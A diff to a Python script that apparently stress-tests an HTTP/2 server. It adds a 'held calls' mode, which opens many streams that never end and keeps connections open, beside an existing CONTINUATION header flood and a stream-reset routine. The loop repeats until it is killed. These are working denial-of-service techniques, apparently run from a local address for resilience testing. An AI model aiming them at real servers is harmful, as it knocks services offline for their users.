@@ -8,6 +8,7 @@ others. Takes a minute.
 """
 
 import argparse
+import collections
 import contextlib
 import json
 import multiprocessing
@@ -49,8 +50,12 @@ def reset(number, headers):
             frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
 
 
-# What is said on each connection: two megabytes and more.
+# What is said on each connection: two megabytes and more, or as many calls as may
+# be begun on it, none of which ends.
 ATTACKS = {
+    "held calls": GREETING + frame(HEADERS, END_HEADERS, 1, CALL) + b"".join(
+        frame(HEADERS, END_HEADERS, stream, SAME_CALL)
+        for stream in range(3, 128, 2)),
     "endless headers": GREETING + frame(HEADERS, 0, 1, CALL) +
                        16_000 * frame(CONTINUATION, 0, 1,
                                       header(b"x", 120 * b"x")),
@@ -67,9 +72,12 @@ def attack(address, data):
     """Until it is killed."""
     os.sched_setaffinity(0, CORES[-1:])
     host, port = address.split(":")
+    held = collections.deque(maxlen=100)  # one that drops out is closed
     while True:
-        with contextlib.suppress(OSError), socket.create_connection(
-                (host, int(port)), source_address=("127.0.0.2", 0)) as peer:
+        with contextlib.suppress(OSError):
+            peer = socket.create_connection((host, int(port)),
+                                            source_address=("127.0.0.2", 0))
+            held.append(peer)
             peer.setblocking(False)
             sent = 0
             while sent < len(data):
